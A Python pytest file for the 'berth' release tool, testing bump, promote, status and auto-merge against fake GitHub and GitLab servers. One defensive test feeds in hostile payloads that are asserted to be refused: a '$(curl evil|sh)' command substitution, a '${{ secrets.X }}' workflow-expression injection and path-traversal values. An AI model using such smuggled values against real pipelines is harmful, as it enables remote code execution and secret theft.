"""`berth bump`, `promote` and `status` end to end: the workflow's entry (`berth bump --event`)
driven by the real repository_dispatch and workflow_dispatch payloads (tests/upstream, with
their client_payload and inputs replaced), against the fake GitHub and GitLab on 127.0.0.1.
One branch and one pull request per app and environment, updated and not duplicated, closed
when the base has the release already; hostile values refused before any request is made.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.fake_github import FakeGitHub
from tests.support.fake_gitlab import FakeGitLab
from tests.support.hosts import proposing
from tests.support.jobs import github_job, gitlab_job
from tests.support.repo import PAYMENTS_API, PAYMENTS_API_FILE, berth, git, tree, write
from tests.support.tools import reference


@pytest.fixture
def github(github: FakeGitHub, app_checkout: Path, monkeypatch: pytest.MonkeyPatch) -> FakeGitHub:
    """The release workflow's job: on the fake GitHub whose default branch is the checkout."""
    monkeypatch.setenv("GITHUB_REF_NAME", github.default_branch)
    return github_job(github, monkeypatch, app_checkout)


def dispatch(tmp_path: Path, name: str = "repository", **values: str) -> Path:
    """The vendored payload of `repository_dispatch` (type berth-bump) or `workflow_dispatch`
    carrying `values`."""
    payload: dict[str, Any] = json.loads(
        reference("github", "webhooks", f"{name}_dispatch.payload.json").read_text()
    )
    if name == "repository":
        payload["action"] = "berth-bump"
        payload["client_payload"] = values
    else:
        payload["inputs"] = values
    path = tmp_path / f"{name}-{len(list(tmp_path.iterdir()))}.json"
    path.write_text(json.dumps(payload))
    return path


def bump(app_checkout: Path, event: Path) -> tuple[int, str, str]:
    """One run of berth-release.yml: a fresh checkout of main, then `berth bump --event`."""
    git(app_checkout, "checkout", "-q", "--", ".")
    git(app_checkout, "clean", "-qfd", "environments", "tenants")
    return berth(app_checkout, "bump", "--event", str(event))


def test_a_dispatch_opens_one_pull_request_then_updates_it(
    app_checkout: Path, github: FakeGitHub, tmp_path: Path
) -> None:
    values = {"tenant": "payments", "app": "api", "environment": "dev"}
    code, out, err = bump(app_checkout, dispatch(tmp_path, tag="1.5.0", **values))

    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/bump/payments-api-dev")
    assert pull["title"] == "berth: bump payments/api to 1.5.0 in dev"
    assert pull["body"].startswith("Releases `1.5.0` of `payments/api` in `dev` (was `1.4.0`).")
    assert "`payments/api: 1.4.0 -> 1.5.0 in dev`" in pull["body"]
    files = github.git.files("berth/bump/payments-api-dev")
    assert files[PAYMENTS_API_FILE].decode() == PAYMENTS_API.replace(
        'dev:     {tag: "1.4.0"', 'dev:     {tag: "1.5.0"'
    )
    values_file = "environments/dev/tenants/payments/apps/api.values.yaml"
    assert 'tag: "1.5.0"' in files[values_file].decode()
    changed = {p for p, d in files.items() if github.git.files("master").get(p) != d}
    assert changed == {PAYMENTS_API_FILE, values_file}

    # A newer bump replaces the older one on the same branch and pull request.
    code, _, _ = bump(app_checkout, dispatch(tmp_path, "workflow", tag="1.6.0", **values))
    assert code == 0
    [again] = github.open_pulls("berth/bump/payments-api-dev")
    assert again["number"] == pull["number"] and again["title"].endswith("1.6.0 in dev")
    head = github.git.commits[github.git.refs["refs/heads/berth/bump/payments-api-dev"]]
    assert head.parents == [github.git.refs["refs/heads/master"]]  # one commit on main
    assert b'{tag: "1.6.0"' in github.git.files("berth/bump/payments-api-dev")[PAYMENTS_API_FILE]

    # Another environment is another pull request.
    code, _, _ = bump(
        app_checkout, dispatch(tmp_path, tag="1.6.0", **values | {"environment": "staging"})
    )
    assert code == 0
    assert len(github.open_pulls("berth/bump/payments-api-staging")) == 1
    assert len(github.open_pulls("berth/bump/payments-api-dev")) == 1

    # A bump to what main runs already closes the outdated pull request, and writes nothing.
    start = len(github.requests)
    code, out, _ = bump(app_checkout, dispatch(tmp_path, tag="1.4.0", **values))
    assert code == 0 and "has this release already" in out
    assert github.open_pulls("berth/bump/payments-api-dev") == []
    assert [m for m, p in github.calls()[start:] if m != "GET"] == ["POST", "PATCH"]
    assert git(app_checkout, "status", "--porcelain") == ""


@pytest.mark.parametrize(
    "values",
    [
        {"tenant": "payments", "app": "api", "environment": "dev", "tag": "$(curl evil|sh)"},
        {"tenant": "payments", "app": "api", "environment": "dev", "tag": "${{ secrets.X }}"},
        {"tenant": "..", "app": "api", "environment": "dev", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api/../../x", "environment": "dev", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api", "environment": "qa", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api", "environment": "dev", "digest": "sha256:00"},
        {"tenant": "payments", "app": "api", "environment": "dev"},
        {"tenant": "payments", "app": "api", "tag": "1.5.0"},
        {"tenant": ["payments"], "app": "api", "environment": "dev", "tag": "1.5.0"},
    ],
    ids=[
        "command substitution",
        "workflow expression",
        "dot-dot tenant",
        "path in app",
        "unknown environment",
        "malformed digest",
        "no image",
        "no environment",
        "not text",
    ],
)
def test_hostile_payloads_are_refused_before_anything_is_sent(
    app_checkout: Path, github: FakeGitHub, tmp_path: Path, values: dict[str, Any]
) -> None:
    before = tree(app_checkout)
    start = len(github.requests)

    code, out, err = bump(app_checkout, dispatch(tmp_path, **values))

    assert code == 1, out + err
    assert err.startswith(("<arguments>:1:1: ", f"{tmp_path}/")), err
    assert "Traceback" not in err
    assert github.requests[start:] == []
    assert tree(app_checkout) == before


def test_a_dispatch_of_another_type_is_refused(app_checkout: Path, tmp_path: Path) -> None:
    event = dispatch(tmp_path, tenant="payments", app="api", environment="dev", tag="1.5.0")
    payload = json.loads(event.read_text())
    event.write_text(json.dumps(payload | {"action": "on-demand-test"}))

    code, _, err = berth(app_checkout, "bump", "--event", str(event))

    assert code == 1 and "action: the dispatch type must be 'berth-bump'" in err


def test_gitlab_trigger_variables_open_one_merge_request(
    app_checkout: Path, gitlab: FakeGitLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    gitlab_job(gitlab, monkeypatch, app_checkout)
    for name, value in {
        "BERTH_TENANT": "payments",
        "BERTH_APP": "api",
        "BERTH_ENVIRONMENT": "dev",
        "BERTH_TAG": "1.5.0",
    }.items():
        monkeypatch.setenv(name, value)

    code, out, err = berth(app_checkout, "bump", "--from-variables", "--into", "master")
    assert (code, err) == (0, ""), out
    [request] = gitlab.open_merge_requests("berth/bump/payments-api-dev")
    assert request["title"] == "berth: bump payments/api to 1.5.0 in dev"

    git(app_checkout, "checkout", "-q", "--", ".")
    monkeypatch.setenv("BERTH_TAG", "1.4.0")
    code, out, _ = berth(app_checkout, "bump", "--from-variables", "--into", "master")
    assert code == 0
    assert gitlab.open_merge_requests("berth/bump/payments-api-dev") == []


def test_promotion_opens_one_pull_request_per_tenant_and_environment(
    app_checkout: Path, github: FakeGitHub
) -> None:
    code, out, err = berth(app_checkout, "promote", "payments", "--from", "staging", "--to", "prod")

    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/promote/payments-prod")
    assert pull["title"] == "berth: promote payments from staging to prod"
    assert "- api: 1.3.2 -> 1.4.0 in prod" in pull["body"]
    assert (
        b'prod:    {tag: "1.4.0", replicas: 3}'
        in github.git.files("berth/promote/payments-prod")[PAYMENTS_API_FILE]
    )


def test_a_skipping_promotion_warns_in_the_plan_and_fails_the_check_without_the_label(
    app_checkout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(
        app_checkout,
        {
            PAYMENTS_API_FILE: PAYMENTS_API.replace(
                'dev:     {tag: "1.4.0"', 'dev:     {tag: "1.5.0"'
            )
        },
    )
    git(
        app_checkout, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qam", "dev"
    )
    code, out, err, files = proposing(
        app_checkout,
        "promote",
        "payments/api",
        "--from",
        "dev",
        "--to",
        "prod",
        "--skip-environments",
    )
    assert code == 0, err
    assert "An image goes into an environment that syncs by hand" in out
    assert "berth/approve-skip" in out
    write(app_checkout, {path: data.decode() for path, data in files.items()})

    code, _, err = berth(app_checkout, "plan", "--base", "HEAD", "--fail-on-skip")
    assert code == 1
    assert (
        "payments/api: 1.3.2 -> 1.5.0 in prod did not run in staging before this change (it ran 1.4.0)"
        in err
    )

    event = tmp_path / "pull_request.json"
    pull = json.loads(
        reference("github", "webhooks", "pull_request.opened.payload.json").read_text()
    )
    labelled = copy.deepcopy(pull)
    labelled["pull_request"]["labels"] = [{"name": "berth/approve-skip"}]
    event.write_text(json.dumps(labelled))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    # The label counts only once the host says a maintainer added it (test_plan_labels.py):
    # without a token to ask, the check fails closed.
    code, _, err = berth(app_checkout, "plan", "--base", "HEAD", "--fail-on-skip")
    assert code == 2 and "cannot read the label events of pull request #2" in err


def test_status_in_three_formats(app_checkout: Path) -> None:
    code, text, _ = berth(app_checkout, "status")
    assert code == 0
    assert text == (
        "Desired state in Git (what Argo CD is told to run; --live FILE adds what it reports)\n"
        "APP           DEV    STAGING  PROD\n"
        "payments/api  1.4.0  1.4.0    1.3.2 *\n"
        "* differs from the environment before it: `berth promote` moves it\n"
    )
    _, markdown, _ = berth(app_checkout, "status", "payments", "--format", "markdown")
    assert "| `payments/api` | `1.4.0` | `1.4.0` | **`1.3.2`** |" in markdown
    _, data, _ = berth(app_checkout, "status", "--format", "json")
    prod = json.loads(data)["apps"][0]["environments"]["prod"]
    assert prod == {"tag": "1.3.2", "digest": None, "differs": True}
    code, _, err = berth(app_checkout, "status", "nobody")
    assert code == 1 and "there is no tenant 'nobody'" in err


def _auto_merge_dev(app_checkout: Path) -> None:
    platform = (app_checkout / "platform.yaml").read_text()
    marked = platform.replace(
        "      sync: auto                                  # auto | manual\n",
        "      sync: auto                                  # auto | manual\n      autoMerge: bumps\n",
        1,
    )
    assert marked != platform
    write(app_checkout, {"platform.yaml": marked})
    git(
        app_checkout,
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@example.com",
        "commit",
        "-qam",
        "auto",
    )


def test_auto_merge_is_enabled_on_bumps_into_a_marked_environment_only(
    app_checkout: Path, github: FakeGitHub, tmp_path: Path
) -> None:
    _auto_merge_dev(app_checkout)
    values = {"tenant": "payments", "app": "api", "tag": "1.5.0"}

    code, out, err = bump(app_checkout, dispatch(tmp_path, environment="dev", **values))
    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/bump/payments-api-dev")
    assert pull["auto_merge"] == {"merge_method": "squash"}
    [graphql] = [b for m, p, _, b in github.trace() if p == "/api/graphql"]
    assert graphql["variables"]["input"]["pullRequestId"] == pull["node_id"]

    code, _, _ = bump(app_checkout, dispatch(tmp_path, environment="staging", **values))
    assert code == 0
    [staging] = github.open_pulls("berth/bump/payments-api-staging")
    assert staging.get("auto_merge") is None


def test_auto_merge_on_gitlab_merges_when_the_pipeline_succeeds(
    app_checkout: Path, gitlab: FakeGitLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    _auto_merge_dev(app_checkout)
    gitlab_job(gitlab, monkeypatch, app_checkout)
    code, out, err = berth(
        app_checkout, "bump", "payments/api", "--env", "dev", "--tag", "1.5.0", "--into", "master"
    )
    assert (code, err) == (0, ""), out
    [request] = gitlab.open_merge_requests("berth/bump/payments-api-dev")
    assert request["merge_when_pipeline_succeeds"] is True


def test_auto_merge_is_refused_for_a_manual_environment(app_checkout: Path) -> None:
    platform = (app_checkout / "platform.yaml").read_text()
    write(
        app_checkout,
        {
            "platform.yaml": platform.replace(
                "      sync: manual\n", "      sync: manual\n      autoMerge: bumps\n"
            )
        },
    )
    code, out, _ = berth(app_checkout, "validate")
    assert code == 1
    assert "autoMerge is only for environments with sync: auto" in out
